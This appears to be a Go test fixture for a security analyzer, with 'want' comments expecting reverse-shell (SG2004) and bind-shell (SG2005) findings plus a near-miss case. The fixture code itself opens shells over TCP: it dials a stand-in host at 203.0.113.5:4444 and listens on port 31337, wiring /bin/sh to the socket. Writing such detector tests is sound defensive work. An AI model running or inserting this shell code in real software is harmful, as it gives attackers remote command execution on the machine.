package revshell

import (
	"io"
	"net"
	"os"
	"os/exec"
)

func viaInterface() {
	c, _ := net.Dial("tcp", "203.0.113.5:4444")
	var r io.Reader = c // interface value
	cmd := exec.Command("/bin/sh")
	cmd.Stdin = r // want `SG2004: reverse shell: a network connection is wired to the process's Stdin`
	cmd.Stdout = c
	cmd.Run()
}

func viaLiteral(addr string) {
	c, _ := net.Dial("tcp", addr)
	go attach(c) // goroutine
}

func attach(c net.Conn) {
	cmd := &exec.Cmd{Path: "/bin/sh", Stdin: c, Stdout: c} // want `SG2004: reverse shell`
	cmd.Run()
}

func bind() {
	l, _ := net.Listen("tcp", ":31337")
	for {
		c, _ := l.Accept()
		func() { // closure
			sh := exec.Command("sh")
			sh.Stdin, sh.Stdout = c, c // want `SG2005: bind shell: a network connection is wired to the process's Stdin`
			sh.Start()
		}()
	}
}

func nearMiss() {
	c, _ := net.Dial("tcp", "api.example.com:443")
	defer c.Close()
	cmd := exec.Command("git", "status")
	cmd.Stdout = os.Stdout // near miss: stdio is the terminal
	out, _ := cmd.Output()
	c.Write(out) // near miss: command output sent, no shell wired to the socket
}
